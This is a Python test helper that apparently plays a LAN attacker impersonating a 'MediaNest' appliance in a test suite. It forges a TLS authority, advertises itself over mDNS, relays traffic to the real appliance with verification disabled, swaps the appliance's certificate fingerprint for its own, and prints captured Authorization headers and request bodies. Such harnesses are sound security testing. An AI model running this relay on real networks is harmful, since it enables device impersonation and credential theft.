"""Somebody in the LAN who wants to be taken for the appliance.

`python -m tests.desktop_net.attacker WISH` with a `Wish` as JSON: speaks TLS with an authority of
its own, hands everything on to the real appliance with its own fingerprint in the real one's place,
announces itself over mDNS, and prints as JSON lines what it got hold of.
"""

import asyncio
import json
import sys
import tempfile
from pathlib import Path

import aiohttp
import msgspec
from aiohttp import web
from tests.desktop_net.forged import Authority
from zeroconf import IPVersion
from zeroconf.asyncio import AsyncServiceInfo, AsyncZeroconf

SERVICE_TYPE = "_medianest._tcp.local."


class Wish(msgspec.Struct, frozen=True):
    """What this attacker is up to."""

    id: str
    """The id to be taken for: its own or the victim's."""
    host: str
    port: int = 8767
    upstream: str = ""
    """The real appliance's address; without one nothing is handed on."""
    name: str = "MediaNest"
    announce: bool = True
    announced_fingerprint: str = ""
    """Another than its own authority's, to seem to be the real one."""
    appended: str = ""
    """Certificates (PEM) to show after its own."""
    serves_appended: bool = False
    """Answer with those where the authority is asked for."""
    hide: str = ""
    """The real one's fingerprint, to be replaced in its answers by this attacker's own."""


def say(what: str, **facts: object) -> None:
    print(json.dumps({"what": what, **facts}), flush=True)


class Relay:
    def __init__(self, wish: Wish, authority: Authority) -> None:
        self._wish = wish
        self._authority = authority
        self._client: aiohttp.ClientSession | None = None

    async def answer(self, request: web.Request) -> web.StreamResponse:
        secret = request.headers.get("Authorization", "")
        body = await request.read()
        say("asked", path=request.path, authorization=secret, body=body.decode(errors="replace"))
        if request.path.endswith("/ca.pem"):
            shown = self._wish.appended.encode() if self._wish.serves_appended else b""
            body = shown or self._authority.pem
            return web.Response(body=body, content_type="application/x-pem-file")
        if not self._wish.upstream:
            return self._alone(request)
        return await self._hand_on(request, body)

    def _alone(self, request: web.Request) -> web.StreamResponse:
        if not request.path.endswith("/info"):
            return web.json_response({"code": "unauthorized"}, status=401)
        told = {"name": self._wish.name, "instanceId": self._wish.id, "version": "9.9.9"}
        tls = {"port": self._wish.port, "fingerprint": self._authority.fingerprint}
        more = {"protocol": 1, "oldestClient": "0.1.0", "setupOpen": False, "tls": tls}
        return web.json_response({**told, **more, "api": "/api/v1"})

    async def _hand_on(self, request: web.Request, body: bytes) -> web.StreamResponse:
        if self._client is None:
            # Who relays believes everybody.
            self._client = aiohttp.ClientSession(connector=aiohttp.TCPConnector(ssl=False))
        kept = ("Authorization", "Content-Type", "User-Agent", "Accept")
        headers = {name: request.headers[name] for name in kept if name in request.headers}
        url = self._wish.upstream + request.raw_path
        async with self._client.request(
            request.method, url, data=body or None, headers=headers
        ) as got:
            told = await got.read()
            if self._wish.hide:
                mine = self._authority.fingerprint.encode()
                told = told.replace(self._wish.hide.encode(), mine)
            kind = {"Content-Type": got.headers.get("Content-Type", "application/json")}
            say(
                "answered", path=request.path, status=got.status, body=told.decode(errors="replace")
            )
            return web.Response(body=told, status=got.status, headers=kind)


async def main(wish: Wish) -> None:
    authority = Authority.made()
    app = web.Application(client_max_size=2**24)
    app.router.add_route("*", "/{path:.*}", Relay(wish, authority).answer)
    runner = web.AppRunner(app)
    await runner.setup()
    with tempfile.TemporaryDirectory() as folder:
        names = [f"{wish.id}.medianest.invalid", "localhost"]
        context = authority.context(Path(folder), names=names, appended=wish.appended.encode())
        await web.TCPSite(runner, "0.0.0.0", wish.port, ssl_context=context).start()
    running = AsyncZeroconf(interfaces=[wish.host], ip_version=IPVersion.V4Only)
    if wish.announce:
        await running.async_register_service(_advert(wish, authority), allow_name_change=True)
    say("ready", fingerprint=authority.fingerprint)
    await asyncio.Event().wait()


def _advert(wish: Wish, authority: Authority) -> AsyncServiceInfo:
    fingerprint = wish.announced_fingerprint or authority.fingerprint
    told = {"id": wish.id, "name": wish.name, "v": "1", "ver": "9.9.9", "api": "/api/v1"}
    return AsyncServiceInfo(
        SERVICE_TYPE,
        f"{wish.name}.{SERVICE_TYPE}",
        parsed_addresses=[wish.host],
        port=wish.port,
        properties={**told, "proto": "https", "fp": fingerprint, "port": "8766"},
        server=f"attacker-{wish.port}.local.",
    )


if __name__ == "__main__":
    asyncio.run(main(msgspec.json.decode(sys.argv[1], type=Wish)))
